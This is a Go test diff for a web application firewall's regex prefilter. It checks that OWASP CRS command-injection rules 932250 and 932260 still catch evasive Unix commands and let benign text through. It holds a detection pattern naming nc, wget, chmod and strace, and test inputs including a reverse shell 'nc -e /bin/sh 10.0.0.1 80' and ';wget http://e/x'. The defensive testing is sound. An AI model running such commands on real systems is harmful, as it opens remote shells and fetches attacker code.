@@ -15,6 +15,7 @@ import (
 	"testing"
 	"unicode/utf8"
 
+	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
 	crstests "github.com/corazawaf/coraza-coreruleset/v4/tests"
 	"gopkg.in/yaml.v3"
 	"rsc.io/binaryregexp"
@@ -344,4 +345,85 @@ func TestBareNecessity(t *testing.T) {
 	if c, _ := compileRx(`(?i)union\s+select`); c.op.need.bare != nil {
 		t.Error(`union\s+select: a bare test that is no stronger`)
 	}
+}
+
+// TestBareWords: a pattern of command words, each followed by one of a
+// few characters, whose words sit under common prefixes and evasions
+// (CRS 932250, 932260). Its bare test requires a word with what must
+// follow it ("chmod ", "diff"), not the followers alone, so that plain
+// words with a space or a comma are refused; a value the pattern
+// matches never is. The CRS rules themselves refuse the values of the
+// gateway benchmark's JSON POST.
+func TestBareWords(t *testing.T) {
+	const ev = `["'\\]*(?:\$[a-z]*)?`
+	pattern := `(?i)(?:^|[;|&\n])\s*(?:c` + ev + `h` + ev + `(?:mod|own)[\s,&|]|w` + ev + `g` + ev + `et[\s,&|]|diff|[ls]trace[\s,]|nc(?:at)?[\s,])`
+	c, err := compileRx(pattern)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := c.op.need
+	for _, v := range []string{"leave at the door, please", "Ana Maria", "json.comment", "I changed my mind, thanks", "wgetter", "ncat"} {
+		if n.mayMatch(v) && !n.bareRefuses(v, bytesOf(v)) {
+			t.Errorf("%q: neither test refuses it", v)
+		}
+	}
+	std := regexp.MustCompile("(?sm)" + pattern)
+	for _, v := range []string{"chmod 777 x", "x;wget http://e", "CHOWN,root", "diff", "differ", "strace -p 1", "ltrace\tx",
+		"nc 10.0.0.1 80", "NCAT,", "c'h'mod x", "w\"$xget y", "a\nchown r"} {
+		if !std.MatchString(v) {
+			t.Fatalf("%q: want a value the pattern matches", v)
+		}
+		if !n.mayMatch(v) || n.bareRefuses(v, bytesOf(v)) {
+			t.Errorf("%q matches, yet a test refuses it", v)
+		}
+	}
+
+	for _, id := range []string{"932250", "932260"} {
+		o := crsRx(t, id)
+		for _, v := range []string{"leave at the door, please", "Ana Maria", "ana@example.com", "json.comment", "json.items.0.note", "A-100"} {
+			if o.need.mayMatch(v) && !o.need.bareRefuses(v, bytesOf(v)) {
+				t.Errorf("%s: %q: neither test refuses it", id, v)
+			}
+		}
+		for _, v := range []string{"chmod 777 /tmp/x", ";wget http://e/x", "nc -e /bin/sh 10.0.0.1 80"} {
+			if o.std.MatchString(v) && (!o.need.mayMatch(v) || o.need.bareRefuses(v, bytesOf(v))) {
+				t.Errorf("%s: %q matches, yet a test refuses it", id, v)
+			}
+		}
+	}
+}
+
+// crsRx is the @rx operator of CRS rule id, compiled as the WAF does.
+func crsRx(t *testing.T, id string) *rxOp {
+	t.Helper()
+	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range files {
+		data, err := fs.ReadFile(coreruleset.FS, f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		text := strings.ReplaceAll(string(data), "\\\n", "")
+		at := strings.Index(text, `"id:`+id+`,`)
+		if at < 0 {
+			continue
+		}
+		start := strings.LastIndex(text[:at], `"@rx `)
+		if start < 0 {
+			t.Fatalf("rule %s: no @rx", id)
+		}
+		start += len(`"@rx `)
+		end := strings.Index(text[start:], `" `)
+		// SecRule's quoted argument: \" is a quote.
+		pattern := strings.ReplaceAll(text[start:start+end], `\"`, `"`)
+		c, err := compileRx(pattern)
+		if err != nil {
+			t.Fatalf("rule %s: %v", id, err)
+		}
+		return c.op
+	}
+	t.Fatalf("rule %s not found", id)
+	return nil
 }
